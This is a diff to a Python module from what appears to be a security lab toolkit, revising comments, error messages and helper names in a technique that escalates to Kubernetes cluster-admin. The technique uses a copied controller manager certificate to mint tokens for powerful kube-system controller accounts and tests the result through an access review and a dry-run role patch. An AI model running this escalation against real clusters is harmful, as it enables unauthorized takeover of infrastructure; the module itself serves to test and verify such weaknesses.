@@ -1,8 +1,10 @@
-"""Become cluster-admin with the controller manager's certificate: make a controller's token.
+"""Become cluster-admin with the controller manager's certificate and a controller's token.
 
-Who may create tokens for every service account is every service account. With RBAC, one
-controller may give roles rights that it has not itself: it fills in aggregated roles. With
-ABAC, which knows no verbs, the garbage collector may do everything, as it deletes everything.
+The attacker needs a copy of the controller manager's certificate and key. A caller that may
+create tokens for every service account can act as any of them. With RBAC, the controller that
+fills in aggregated roles may add rights that it does not have itself. With ABAC, which has no
+verbs, the garbage collector may do everything because it may delete everything. No setting stops
+it: the key has to stay secret.
 """
 
 from __future__ import annotations
@@ -21,11 +23,11 @@ from labkit.techniques._lib.api.access import (
     EVERYTHING,
     api_url,
     apiserver_of,
-    everything_body,
+    everything_review,
     may_all,
 )
+from labkit.techniques._lib.api.component_credential import MASTER, caller, credential_options
 from labkit.techniques._lib.api.controllers import KIND, own_accounts, own_work
-from labkit.techniques._lib.api.worker import MASTER, caller, carried
 from labkit.techniques._lib.machines.reach import request
 from labkit.techniques._lib.technique import ADMIN, COPIED_CREDENTIAL, Prediction, Technique
 from labkit.techniques._lib.verdict import Setting, Verdict
@@ -36,9 +38,9 @@ if TYPE_CHECKING:
 __all__ = ["TECHNIQUE"]
 
 NAMESPACE, RBAC = "kube-system", "rbac.authorization.k8s.io"
-#: Whose token is worth most, by whether roles count.
+#: The account with the most powerful token, with RBAC (True) and without it (False).
 ACCOUNTS = {True: "clusterrole-aggregation-controller", False: "generic-garbage-collector"}
-#: A role that everybody has who has a name. It is only a dry run: nobody gets the rights.
+#: A role of every authenticated user. The change is a dry run: nobody gets the rights.
 ROLE = "system:basic-user"
 GIVE = Action("patch", "clusterroles", RBAC, name=ROLE)
 ESCALATE = Action("escalate", "clusterroles", RBAC, name=ROLE)
@@ -47,11 +49,11 @@ TOKEN_REQUEST = {"apiVersion": "authentication.k8s.io/v1", "kind": "TokenRequest
 
 
 def predict(model: Model, foothold: Foothold) -> Prediction:
-    """Say what the model says: whether it may do everything, or whose token it may make."""
+    """Predict from what the manager may do, and from the account whose token it may create."""
     apiserver, manager = apiserver_of(model.environment), caller(model.environment, KIND, MASTER)
-    alone = everything_for(model.environment, apiserver, manager.groups, manager.user)
-    if alone is not None and alone.value == "allow-all":
-        return Prediction(True, (str(alone),))
+    manager_claim = everything_for(model.environment, apiserver, manager.groups, manager.user)
+    if manager_claim is not None and manager_claim.value == "allow-all":
+        return Prediction(True, (str(manager_claim),))
     roles = _roles_count(model.environment)
     name = ACCOUNTS[roles]
     token = Action("create", "serviceaccounts/token", namespace=NAMESPACE, name=name)
@@ -68,11 +70,11 @@ def predict(model: Model, foothold: Foothold) -> Prediction:
 
 
 def execute(lab: Lab, foothold: Foothold) -> Verdict:
-    """Ask whether the manager may do everything; if not, be a controller that may."""
+    """Ask whether the manager may do everything; if not, create a token and act with it."""
     account = ACCOUNTS[_roles_count(lab.environment)]
-    with carried(lab, foothold, KIND, MASTER) as options:
-        alone = _may_everything(lab, foothold, options)
-        if alone:
+    with credential_options(lab, foothold, KIND, MASTER) as options:
+        manager_claim = _may_everything(lab, foothold, options)
+        if manager_claim:
             evidence = ("asked the apiserver what the controller manager may do: everything",)
             reason = "the manager itself may do everything"
             return Verdict(TECHNIQUE.name, lab.mode, foothold, True, reason, evidence)
@@ -82,7 +84,7 @@ def execute(lab: Lab, foothold: Foothold) -> Verdict:
         made = request(lab, api_url(lab, path), foothold=foothold, body=body, options=options)
         if made.refusal:
             if made.refusal != "HTTP 403":
-                raise ProbeError(f"{TECHNIQUE.name}: {made.refusal} says nothing")
+                raise ProbeError(f"{TECHNIQUE.name}: inconclusive answer {made.refusal}")
             control = own_work(lab, foothold, options)
             return Verdict(
                 TECHNIQUE.name, lab.mode, foothold, False, made.refusal, (asked,), control
@@ -94,13 +96,13 @@ def execute(lab: Lab, foothold: Foothold) -> Verdict:
 def _as_account(
     lab: Lab, foothold: Foothold, account: str, options: list[str], asked: str
 ) -> Verdict:
-    """See whether a controller's token is worth everything."""
+    """Check that a controller's token gives every right, or can add every right to a role."""
     if not _roles_count(lab.environment):
         if not _may_everything(lab, foothold, options):
-            raise ProbeError(f"{account} may not do everything")
-        told = (asked, f"asked the apiserver what {account} may do: everything")
+            raise ProbeError(f"{account} may not do everything, although the model predicts it")
+        evidence = (asked, f"asked the apiserver what {account} may do: everything")
         reason = f"{account} may do everything, and its token is there for the asking"
-        return Verdict(TECHNIQUE.name, lab.mode, foothold, True, reason, told)
+        return Verdict(TECHNIQUE.name, lab.mode, foothold, True, reason, evidence)
     path = f"/apis/{RBAC}/v1/clusterroles/{ROLE}?dryRun=All"
     kind = ("--header", "Content-Type: application/merge-patch+json", "--request", "PATCH")
     body = json.dumps({"rules": EVERY_RIGHT}).encode()
@@ -111,16 +113,16 @@ def _as_account(
     if given.refusal:
         raise ProbeError(f"{account} may not change {ROLE}: {given.refusal}")
     if json.loads(given.body)["rules"] != EVERY_RIGHT:
-        raise ProbeError(f"{ROLE} would not have every right")
+        raise ProbeError(f"the apiserver answered, but {ROLE} would not have every right")
     reason = f"HTTP {given.status}, {account} gives what it has not, and its token is there to make"
     return Verdict(TECHNIQUE.name, lab.mode, foothold, True, reason, (asked, tried))
 
 
 def _may_everything(lab: Lab, foothold: Foothold, options: Sequence[str]) -> bool:
     url = api_url(lab, EVERYTHING)
-    answer = request(lab, url, foothold=foothold, body=everything_body(), options=options)
+    answer = request(lab, url, foothold=foothold, body=everything_review(), options=options)
     if answer.refusal:
-        raise ProbeError(f"the apiserver does not say what one may do: {answer.refusal}")
+        raise ProbeError(f"the apiserver did not answer the access review: {answer.refusal}")
     return bool(json.loads(answer.body)["status"].get("allowed"))
 
 
